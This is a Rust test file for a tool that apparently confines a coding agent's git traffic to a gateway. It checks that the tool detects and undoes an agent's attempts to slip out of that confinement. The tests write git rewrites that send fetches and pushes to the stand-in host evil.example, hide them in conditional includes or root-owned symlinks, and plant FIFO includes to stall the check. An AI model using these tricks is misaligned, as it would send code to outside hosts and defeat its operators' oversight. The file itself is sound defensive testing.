//! The git step against a hostile agent, made from inside the guest as the
//! agent user (issue 9 item 1, issue 12 item 5): what git in the guest
//! will actually use, for fetch and for push, whatever file or include the
//! agent writes, and a config git cannot read in bounded time never stalls
//! the step. `bottle` against the smolvm double, `e2e` fixture.

mod support;

use support::Double;
use support::project::Project;

const CODER: &str = "bottle_e2e_coder";
const APP: &str = "git@github.com:acme/app.git";
const DOCS: &str = "https://github.com/acme/docs.git";
const APP_GATEWAY: &str = "http://10.8.0.2:9418/app.git";
const DOCS_GATEWAY: &str = "http://10.8.0.2:9418/docs.git";

fn project() -> Project {
    Project::with_double(
        "e2e",
        Double::new().with_env("BOTTLE_E2E_SECRET", "not-a-secret"),
    )
}

/// `sh -c SCRIPT` as the agent user `node` in its home; its stdout.
fn as_agent(p: &Project, script: &str) -> String {
    let out = p.double.exec(
        CODER,
        &[
            "runuser",
            "-u",
            "node",
            "--",
            "sh",
            "-c",
            &format!("cd && {script}"),
        ],
    );
    assert!(
        out.status.success(),
        "`{script}` as node failed: {}",
        support::stderr(&out)
    );
    support::stdout(&out)
}

/// Where the agent's git fetches `upstream` from and pushes it to, in a
/// repository of its own with `upstream` as its `origin`.
fn fetch_and_push(p: &Project, upstream: &str) -> (String, String) {
    let out = as_agent(
        p,
        &format!(
            "rm -rf /tmp/repo && git init -q /tmp/repo && cd /tmp/repo && \
             git remote add origin {upstream} && git remote get-url origin && \
             git remote get-url --push origin"
        ),
    );
    let mut lines = out.lines().map(str::to_owned);
    (lines.next().unwrap(), lines.next().unwrap())
}

fn gateway_for(upstream: &str) -> (String, String) {
    let gateway = if upstream == APP {
        APP_GATEWAY
    } else {
        DOCS_GATEWAY
    };
    (gateway.to_owned(), gateway.to_owned())
}

#[track_caller]
fn assert_git_drift(p: &Project) -> String {
    let check = p.bottle(&["check"]);
    check.code(3);
    assert!(
        check
            .stdout
            .contains("coder: git (apply needed): git configuration changed in guest"),
        "{}",
        check.stdout
    );
    check.stdout
}

/// Item 1: a FIFO where git reads (here an include of ~/.gitconfig) made
/// the step's apply wait for the guest transaction's cutoff (240 s) and
/// fail; the probe waited out its own. Now the walk names it before git
/// reads anything, and apply takes the include out.
#[test]
fn a_fifo_the_agent_includes_is_taken_out_without_waiting_on_it() {
    let p = project();
    p.bottle(&["apply"]).success();
    as_agent(
        &p,
        "mkfifo ~/fifo && git config --global include.path ~/fifo",
    );
    assert_git_drift(&p);
    p.bottle(&["apply"]).success();
    assert!(
        !as_agent(&p, "cat ~/.gitconfig").contains("fifo"),
        "the include is gone"
    );
    // The agent's own file stays; git works again.
    as_agent(&p, "test -p ~/fifo");
    assert_eq!(fetch_and_push(&p, APP), gateway_for(APP));
    p.bottle(&["check"]).success();

    // ~/.config/git/config itself a FIFO: moved aside.
    as_agent(&p, "mkdir -p ~/.config/git && mkfifo ~/.config/git/config");
    assert_git_drift(&p);
    p.bottle(&["apply"]).success();
    as_agent(&p, "test -p ~/.config/git/config.bottle-unreadable");
    p.bottle(&["check"]).success();
}

/// Item 1: what bottle cannot take out of git's way (an include in the
/// image's /etc/gitconfig, which the agent user cannot change) fails the
/// step at once, naming the file, and stays drift.
#[test]
fn a_config_git_cannot_read_that_bottle_cannot_move_fails_naming_it() {
    let p = project();
    p.bottle(&["apply"]).success();
    p.double
        .sh(CODER, "git config --system include.path /dev/zero");
    assert_git_drift(&p);
    let apply = p.bottle(&["apply"]);
    apply.code(1);
    assert!(
        apply
            .all()
            .contains("git cannot read /dev/zero in bounded time: it is not a regular file"),
        "{}",
        apply.all()
    );
    assert_git_drift(&p);

    // An include the image names in the agent's home, which the agent
    // made a FIFO: the FIFO is moved aside (the include line cannot go).
    p.double.sh(
        CODER,
        "printf '[include]\\n\\tpath = /home/node/.gitconfig.local\\n' > /etc/gitconfig",
    );
    as_agent(&p, "mkfifo ~/.gitconfig.local");
    assert_git_drift(&p);
    p.bottle(&["apply"]).success();
    as_agent(&p, "test -p ~/.gitconfig.local.bottle-unreadable");
    p.bottle(&["check"]).success();
}

/// Item 2: `pushInsteadOf` sends pushes of a declared upstream elsewhere
/// while `git ls-remote --get-url` still shows the gateway: check said in
/// sync.
#[test]
fn a_push_rewrite_of_a_declared_upstream_is_drift_that_apply_removes() {
    let p = project();
    p.bottle(&["apply"]).success();
    assert_eq!(fetch_and_push(&p, APP), gateway_for(APP));
    // In the file git reads before ~/.gitconfig: of equally long
    // rewrites, the first read wins.
    as_agent(
        &p,
        &format!(
            "mkdir -p ~/.config/git && git config --file ~/.config/git/config \
             url.http://evil.example/app.pushInsteadOf {APP}"
        ),
    );
    assert_eq!(
        fetch_and_push(&p, APP),
        (APP_GATEWAY.to_owned(), "http://evil.example/app".to_owned())
    );
    // The cause names the file that holds the rewrite, not ~/.gitconfig.
    let check = assert_git_drift(&p);
    assert!(
        check.contains("changed in guest: /home/node/.config/git/config (another rewrite of"),
        "{check}"
    );
    p.bottle(&["apply"]).success();
    assert_eq!(fetch_and_push(&p, APP), gateway_for(APP));
    p.bottle(&["check"]).success();

    // A rule for a whole host (a common dotfiles line: fetch over https,
    // push over ssh) stays: bottle's own, longer, wins for its upstream.
    as_agent(
        &p,
        "mkdir -p ~/.config/git && git config --file ~/.config/git/config \
         url.git@github.com:.pushInsteadOf https://github.com/",
    );
    assert_eq!(fetch_and_push(&p, DOCS), gateway_for(DOCS));
    assert_eq!(
        fetch_and_push(&p, "https://github.com/acme/other.git").1,
        "git@github.com:acme/other.git"
    );
    p.bottle(&["check"]).success();
    // Without bottle's own line, that rule decides where pushes go.
    as_agent(
        &p,
        &format!("git config --global --unset url.{DOCS_GATEWAY}.pushInsteadOf"),
    );
    assert_eq!(fetch_and_push(&p, DOCS).1, "git@github.com:acme/docs.git");
    assert_git_drift(&p);
    p.bottle(&["apply"]).success();
    assert_eq!(fetch_and_push(&p, DOCS), gateway_for(DOCS));
    assert!(as_agent(&p, "cat ~/.config/git/config").contains("https://github.com/"));
    p.bottle(&["check"]).success();
}

/// Item 4: a rewrite in a file git reads only inside repositories (an
/// `includeIf` in the file git reads first, which the probe's `git
/// ls-remote` outside any repository never reads) was never seen nor
/// removed.
#[test]
fn a_rewrite_in_a_conditional_include_is_drift_that_apply_removes() {
    let p = project();
    p.bottle(&["apply"]).success();
    as_agent(
        &p,
        &format!(
            "git config --file ~/evil.inc url.http://evil.example/app.insteadOf {APP} && \
             git config --file ~/evil.inc url.http://evil.example/keep.insteadOf https://keep.example/ && \
             mkdir -p ~/.config/git && \
             git config --file ~/.config/git/config includeIf.gitdir:/.path ~/evil.inc"
        ),
    );
    assert_eq!(
        fetch_and_push(&p, APP).0,
        "http://evil.example/app",
        "every repository reads it"
    );
    assert_git_drift(&p);
    p.bottle(&["apply"]).success();
    assert_eq!(fetch_and_push(&p, APP), gateway_for(APP));
    // Only what competed with bottle's rewrite went.
    let inc = as_agent(&p, "cat ~/evil.inc");
    assert!(
        inc.contains("https://keep.example/") && !inc.contains(APP),
        "{inc}"
    );
    p.bottle(&["check"]).success();
}

/// Items 3 and 4: a rewrite in a file the agent user cannot change (the
/// image's /etc/gitconfig; or a root file the agent links its XDG config
/// to, which root must not write through the link) fails the step naming
/// that file, and root changed nothing.
#[test]
fn a_rewrite_the_agent_user_cannot_remove_fails_naming_its_file() {
    let p = project();
    p.bottle(&["apply"]).success();
    p.double.sh(
        CODER,
        &format!("git config --system url.http://evil.example/docs.insteadOf {DOCS}"),
    );
    assert_git_drift(&p);
    let apply = p.bottle(&["apply"]);
    apply.code(1);
    assert!(
        apply.all().contains(&format!(
            "url.http://evil.example/docs.insteadof = {DOCS} in /etc/gitconfig: user node cannot remove it"
        )),
        "{}",
        apply.all()
    );
    p.double.sh(CODER, "rm /etc/gitconfig");
    p.bottle(&["apply"]).success();

    p.double.sh(
        CODER,
        &format!(
            "printf '[url \"http://evil.example/app\"]\\n\\tpushInsteadOf = {APP}\\n' > /etc/root.conf"
        ),
    );
    as_agent(
        &p,
        "mkdir -p ~/.config/git && ln -s /etc/root.conf ~/.config/git/config",
    );
    assert_git_drift(&p);
    let apply = p.bottle(&["apply"]);
    apply.code(1);
    assert!(
        apply.all().contains(&format!(
            "url.http://evil.example/app.pushinsteadof = {APP} in /home/node/.config/git/config"
        )),
        "{}",
        apply.all()
    );
    assert!(
        p.double.sh(CODER, "cat /etc/root.conf").contains(APP),
        "root wrote through the agent's link"
    );
}
